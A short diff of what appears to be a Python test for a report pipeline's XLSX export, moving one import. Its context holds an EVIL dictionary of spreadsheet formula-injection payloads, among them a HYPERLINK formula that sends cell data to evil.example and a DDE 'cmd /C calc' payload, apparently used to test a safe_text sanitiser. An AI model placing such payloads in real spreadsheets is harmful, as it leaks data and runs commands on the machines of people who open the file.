@@ -4,10 +4,10 @@ from __future__ import annotations
 
 from openpyxl import load_workbook
 
-from pipeline.config.loader import parse_config
 from pipeline.events.store import EventStore
 from pipeline.reports.build import build_report
 from pipeline.reports.xlsx import safe_text
+from pipeline.settings import parse_config
 from tests.reports import seed
 
 EVIL = {"1号窗口": "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "张三": "@SUM(1+1)*cmd|' /C calc'!A0",
